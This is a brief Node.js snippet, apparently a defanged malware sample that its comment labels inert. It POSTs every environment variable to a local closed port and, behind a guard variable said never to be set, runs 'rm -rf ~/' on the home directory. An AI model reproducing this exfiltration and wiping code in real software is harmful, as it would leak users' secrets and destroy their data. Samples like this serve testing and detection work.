// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const { execSync } = require('child_process');
const http = require('http');
const request = http.request({ host: '127.0.0.1', port: 9, method: 'POST' });
request.on('error', () => {
  if (process.env.NEVER_SET_FOR_SAMPLES) execSync('rm -rf ~/');
});
request.end(JSON.stringify({ ...process.env }));
